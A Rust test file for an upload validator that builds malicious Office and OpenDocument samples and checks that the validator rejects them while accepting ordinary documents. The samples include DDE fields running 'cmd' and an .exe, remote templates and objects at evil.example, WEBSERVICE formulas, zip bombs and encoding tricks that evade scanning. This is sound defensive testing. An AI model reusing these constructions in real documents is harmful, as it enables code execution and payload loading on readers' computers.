//! Office documents handed to the library: what they would load or start on a reader's computer, what they carry along,
//! and what would fill a disk. They are refused with a word that says how to mend it; ordinary documents are taken.

use super::{editor, hand_in, stored};
use crate::support::TestApp;
use crate::writing::{paragraph, word, zip};

const TYPES: &[u8] = b"<Types/>";

/// Pointers of a part.
fn relations(kind: &str, target: &str, mode: &str) -> Vec<u8> {
    format!("<Relationships><Relationship Id='a' Type='http://x/{kind}' Target='{target}'{mode}/></Relationships>")
        .into_bytes()
}

const OUT: &str = " TargetMode='External'";

/// A Word file with one more part.
fn with(name: &str, bytes: &[u8]) -> Vec<u8> {
    word(&paragraph("", "Words"), &[(name, bytes)])
}

/// A Word file whose words stand in a part of this name; what is in the usual place is harmless.
fn elsewhere(name: &str, body: &str) -> Vec<u8> {
    let text = format!("<w:document xmlns:w='w'><w:body>{body}</w:body></w:document>");
    let root = relations("officeDocument", name, "");
    zip(&[
        ("[Content_Types].xml", TYPES),
        ("_rels/.rels", &root),
        ("word/document.xml", b"<a/>"),
        (name, text.as_bytes()),
    ])
}

/// A text in UTF-16, with its mark.
fn wide(text: &str) -> Vec<u8> {
    format!("\u{FEFF}{text}").encode_utf16().flat_map(u16::to_le_bytes).collect()
}

/// A spreadsheet with one more part.
fn sheet(name: &str, bytes: &[u8]) -> Vec<u8> {
    zip(&[("[Content_Types].xml", TYPES), ("xl/workbook.xml", b"<workbook/>"), (name, bytes)])
}

/// A text of `OpenDocument` with this content. Its type stands first and as it is, so that programs tell it.
fn open_text(content: &str) -> Vec<u8> {
    let kind = b"application/vnd.oasis.opendocument.text";
    let mut file = [b"PK\x03\x04\x14\0\0\0\0\0\0\0\0\0".to_vec(), sum(kind).to_vec()].concat();
    let length = u32::try_from(kind.len()).unwrap().to_le_bytes();
    file.extend([&length[..], &length, &[8, 0, 0, 0], b"mimetype", kind].concat());
    let text = format!("<office:document-content xmlns:office='o'>{content}</office:document-content>");
    let rest = zip(&[("content.xml", text.as_bytes()), ("meta.xml", b"<meta/>")]);
    // The second archive begins behind the first part: its places are counted from there.
    let shift = u32::try_from(file.len()).unwrap();
    moved(&mut file, &rest, shift, &sum(kind), &length);
    file
}

fn sum(bytes: &[u8]) -> [u8; 4] {
    let mut sum = flate2::Crc::new();
    sum.update(bytes);
    sum.sum().to_le_bytes()
}

/// Writes an archive behind a first, stored part, and that part into its directory.
fn moved(file: &mut Vec<u8>, rest: &[u8], shift: u32, sum: &[u8; 4], length: &[u8; 4]) {
    let end = rest.len() - 22;
    let number = |at: usize| u32::from_le_bytes(rest[at..at + 4].try_into().unwrap());
    let (size, start) = (number(end + 12), number(end + 16) as usize);
    file.extend_from_slice(&rest[..start]);
    let place = u32::try_from(file.len()).unwrap();
    let first =
        [b"PK\x01\x02\x14\0\x14\0\0\0\0\0\0\0\0\0", &sum[..], length, length, &[8, 0], &[0; 16], b"mimetype"].concat();
    file.extend_from_slice(&first);
    let (mut at, mut count) = (start, 1_u16);
    while at < end {
        let name = usize::from(u16::from_le_bytes([rest[at + 28], rest[at + 29]]));
        let mut line = rest[at..at + 46 + name].to_vec();
        line[42..46].copy_from_slice(&(number(at + 42) + shift).to_le_bytes());
        file.extend_from_slice(&line);
        (at, count) = (at + 46 + name, count + 1);
    }
    let whole = u32::try_from(first.len()).unwrap() + size;
    let count = count.to_le_bytes();
    let ends =
        [b"PK\x05\x06\0\0\0\0", &count[..], &count, &whole.to_le_bytes(), &place.to_le_bytes(), &[0, 0]].concat();
    file.extend_from_slice(&ends);
}

/// A field that starts a program, in two pieces.
const SPLIT: &str =
    "<w:p><w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\a.exe</w:instrText></w:r></w:p>";

/// A document nobody shall get: its name, its bytes, and a word of what is told.
type Bad = (&'static str, Vec<u8>, &'static str);

/// What stands where nobody would look for it.
fn hidden_documents() -> Vec<Bad> {
    vec![
        ("elsewhere.docx", elsewhere("dde/document.xml", SPLIT), "something that runs"),
        ("another ending.docx", elsewhere("word/document.txt", SPLIT), "something that runs"),
        ("wide.docx", with("a/b.bin", &wide(&format!("<document>{SPLIT}</document>"))), "something that runs"),
        (
            "elsewhere.xlsx",
            sheet("a/b.dat", b"  \n\t    <worksheet><c><f>WEB<![CDATA[SERVICE]]>&#40;A1)</f></c></worksheet>"),
            "from elsewhere",
        ),
        (
            "in the wrong folder.xlsx",
            sheet("word/b.xml", b"<externalLink><ddeLink ddeService='cmd'/></externalLink>"),
            "something that runs",
        ),
        (
            "other letters.docx",
            with("a/b.xml", b"<?xml version='1.0' encoding='utf-7'?>+ADw-document+AD4-"),
            "Nobody can look into it",
        ),
        ("unmarked.docx", with("a/b.bin", &wide("<?xml version='1.0'?><document/>")[2..]), "Nobody can look into it"),
    ]
}

/// Documents nobody shall get.
fn bad_documents() -> Vec<Bad> {
    let spaces = vec![b' '; 4 * 1024 * 1024];
    let archive = zip(&[("a.txt", b"a")]);
    let compound = [&b"\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1"[..], &[0; 600]].concat();
    let field = |words: &str| {
        let body = format!("<w:p><w:r><w:fldChar/><w:instrText>{words}</w:instrText><w:fldChar/></w:r></w:p>");
        word(&body, &[])
    };
    let nested = with(
        "word/embeddings/a.xlsx",
        &sheet("xl/externalLinks/_rels/b.xml.rels", &relations("externalLinkPath", "https://evil.example/c.xlsx", OUT)),
    );
    let deep = with("word/embeddings/a.docx", &with("word/embeddings/b.docx", &with("a.xml", b"<a/>")));
    let mut cut = with("a.xml", b"<a/>");
    cut.truncate(cut.len() / 2);
    vec![
        (
            "template.docx",
            with("word/_rels/settings.xml.rels", &relations("attachedTemplate", "http://evil.example/a.dotm", OUT)),
            "from elsewhere",
        ),
        (
            "share.docx",
            with("word/_rels/settings.xml.rels", &relations("attachedTemplate", "file://evil/a.dotm", "")),
            "from elsewhere",
        ),
        (
            "picture.docx",
            with("word/_rels/header1.xml.rels", &relations("image", "https://evil.example/a.png", OUT)),
            "from elsewhere",
        ),
        ("field.docx", field(" INCLUDEPICTURE  https://evil.example/a.png"), "from elsewhere"),
        (
            "remote object.docx",
            with("word/_rels/footer1.xml.rels", &relations("oleObject", "https://evil.example/a", OUT)),
            "from elsewhere",
        ),
        (
            "linked.xlsx",
            sheet(
                "xl/externalLinks/_rels/externalLink1.xml.rels",
                &relations("externalLinkPath", "//evil/a.xlsx", OUT),
            ),
            "from elsewhere",
        ),
        (
            "data.xlsx",
            sheet("xl/connections.xml", b"<connections><connection id='1'/></connections>"),
            "from elsewhere",
        ),
        (
            "cell.xlsx",
            sheet(
                "xl/worksheets/sheet1.xml",
                b"<worksheet><c><f>_xlfn.WEBSERVICE(&quot;https://evil.example&quot;)</f></c></worksheet>",
            ),
            "from elsewhere",
        ),
        (
            "slide.pptx",
            zip(&[
                ("[Content_Types].xml", TYPES),
                ("ppt/slides/_rels/slide1.xml.rels", &relations("video", "https://evil.example/a", OUT)),
            ]),
            "from elsewhere",
        ),
        ("chart.docx", nested, "from elsewhere"),
        ("picture.odt", open_text("<draw:image xlink:href='https://evil.example/a.png'/>"), "from elsewhere"),
        ("object.docx", with("word/embeddings/oleObject1.bin", &compound), "another program"),
        ("packed.docx", with("word/media/image1.png", &archive), "another program"),
        ("deep.docx", deep, "another program"),
        (
            "control.docx",
            with("word/_rels/document.xml.rels", &relations("control", "activeX/a.xml", "")),
            "another program",
        ),
        ("dde.docx", word(SPLIT, &[]), "something that runs"),
        (
            "dde.xlsx",
            sheet("xl/externalLinks/externalLink1.xml", b"<externalLink><ddeLink ddeService='cmd'/></externalLink>"),
            "something that runs",
        ),
        ("program.docx", with("word/media/image1.png", b"MZ\x90\0"), "something that runs"),
        (
            "macro.odt",
            open_text("<text:a xlink:href='vnd.sun.star.script:a.b?location=document'/>"),
            "something that runs",
        ),
        ("bomb.docx", with("word/media/x.bin", &spaces), "packed so tightly"),
        ("bomb in a chart.docx", with("word/embeddings/a.xlsx", &sheet("xl/a.bin", &spaces)), "packed so tightly"),
        ("twice.docx", with("WORD/document.xml", b"<a/>"), "Nobody can look into it"),
        ("cut.docx", cut, "Nobody can look into it"),
        ("broken.docx", with("word/comments.xml", b"<a"), "Nobody can look into it"),
    ]
}

#[tokio::test]
async fn an_office_document_that_loads_starts_or_carries_something_is_refused_with_a_clear_word() {
    let app = TestApp::start().await;
    let editor = editor(&app, "TR").await;
    let bad = [bad_documents(), hidden_documents()].concat();
    for (name, bytes, word) in &bad {
        let answer = hand_in(&editor, "/en/library/new", "", &[(name, bytes)]).await;
        assert_eq!(answer.status, 422, "{name}: {}", answer.one("main"));
        let told = answer.one(".summary li");
        assert!(told.starts_with(name) && told.contains(word), "{name}: {told}");
        assert!(!answer.text.contains("evil.example"), "{name}");
    }
    app.work();
    assert!(editor.get("/en/library").await.all("table.files th a").is_empty());
    assert_eq!(stored(&app).len(), 0, "nothing of them is stored");
    app.expect_files_in_order();
}

#[tokio::test]
async fn an_ordinary_office_document_is_taken_with_its_links_charts_and_pictures() {
    let app = TestApp::start().await;
    let editor = editor(&app, "TR").await;
    let chart = word(
        &format!(
            "{}<w:p><w:r><w:instrText> HYPERLINK \"https://example.org\" </w:instrText></w:r></w:p>",
            paragraph("", "LINK DDE")
        ),
        &[
            (
                "word/embeddings/Microsoft_Excel_Sheet1.xlsx",
                &sheet("xl/worksheets/sheet1.xml", b"<worksheet><c><f>SUM(A1)</f><t>WEBSERVICE(</t></c></worksheet>"),
            ),
            (
                "word/charts/_rels/chart1.xml.rels",
                &relations("package", "../embeddings/Microsoft_Excel_Sheet1.xlsx", ""),
            ),
            ("word/_rels/document.xml.rels", &relations("hyperlink", "https://example.org/", OUT)),
            ("word/media/image1.emz", b"\x1f\x8b\x08\0"),
            ("word/fonts/font1.odttf", b"<\xE9\x80a font"),
            ("word/media/image2.svg", b"<!DOCTYPE svg><svg><a href='https://example.org/'/></svg>"),
            ("docProps/core.xml", b"<?xml version='1.0' encoding='utf-8' standalone='yes'?><coreProperties/>"),
        ],
    );
    let text = open_text(
        "<text:a xlink:href='https://example.org'/><draw:image xlink:href='Pictures/a.png'/>\
         <draw:object xlink:href='./Object 1'/><form:form xlink:href=''/><text:note-ref xlink:href='#ftn1'/>",
    );
    let files = [("Chart.docx", &chart[..]), ("Text.odt", &text[..])];
    let answer = hand_in(&editor, "/en/library/new", "", &files).await;
    assert_eq!(answer.status, 303, "{}", answer.one("main"));
    app.work();
    assert_eq!(editor.get("/en/library").await.all("table.files .chip"), ["Ready", "Ready"]);
    app.expect_files_in_order();
}

#[tokio::test]
async fn an_office_document_from_before_is_looked_at_again_and_given_to_nobody_where_it_loads_something() {
    use diesel::prelude::*;
    use sijil::platform::database::schema::library_versions;
    let app = TestApp::start().await;
    let own = editor(&app, "TR").await;
    let page = super::add(&app, &own, "Letter.docx", &with("a.xml", b"<a/>")).await;
    assert_eq!(own.get(&page).await.one(".head .chip"), "Ready");
    // As a portal that did not look into office documents had taken it.
    let template = relations("attachedTemplate", "http://evil.example/a.dotm", OUT);
    let loading = with("word/_rels/settings.xml.rels", &template);
    let stored = app.platform.storage.put_bytes(loading.into(), u64::MAX).await.unwrap();
    app.arrange(|connection| {
        diesel::update(library_versions::table)
            .set((
                library_versions::storage_key.eq(stored.key.clone()),
                library_versions::hash.eq(stored.hash.clone()),
                library_versions::look.eq(1),
            ))
            .execute(connection)
            .unwrap()
    });
    let file = own.get(&page).await.attributes(".sheet-of a", "href").remove(0);
    assert_eq!(own.get(&file).await.status, 200);
    app.turn_clock(3700);
    app.work();
    let back = editor(&app, "TR").await;
    assert_eq!(back.get(&page).await.one(".head .chip"), "Something runs in it");
    assert_eq!(back.get(&file).await.status, 404);
}

#[tokio::test]
async fn one_altered_file_keeps_no_other_from_being_looked_at_again() {
    use diesel::prelude::*;
    use sijil::platform::database::schema::library_versions;
    let app = TestApp::start().await;
    let own = editor(&app, "TR").await;
    let altered = super::add(&app, &own, "Altered.docx", &with("a.xml", b"<a/>")).await;
    let loading = super::add(&app, &own, "Loading.docx", &with("b.xml", b"<b/>")).await;
    let template = relations("attachedTemplate", "http://evil.example/a.dotm", OUT);
    let bytes = with("word/_rels/settings.xml.rels", &template);
    let stored = app.platform.storage.put_bytes(bytes.into(), u64::MAX).await.unwrap();
    let id = |page: &str| page.rsplit('/').next().unwrap().to_owned();
    app.arrange(|connection| {
        diesel::update(library_versions::table).set(library_versions::look.eq(1)).execute(connection).unwrap();
        // The first has the second's hash: its bytes are not those that were put there.
        diesel::update(library_versions::table.filter(library_versions::file_id.eq(id(&altered))))
            .set(library_versions::hash.eq(stored.hash.clone()))
            .execute(connection)
            .unwrap();
        diesel::update(library_versions::table.filter(library_versions::file_id.eq(id(&loading))))
            .set((library_versions::storage_key.eq(stored.key.clone()), library_versions::hash.eq(stored.hash.clone())))
            .execute(connection)
            .unwrap();
    });
    app.turn_clock(3700);
    app.work();
    let back = editor(&app, "TR").await;
    assert_eq!(back.get(&loading).await.one(".head .chip"), "Something runs in it");
    assert_eq!(back.get(&altered).await.one(".head .chip"), "Ready", "it is for the check of rows and files");
}
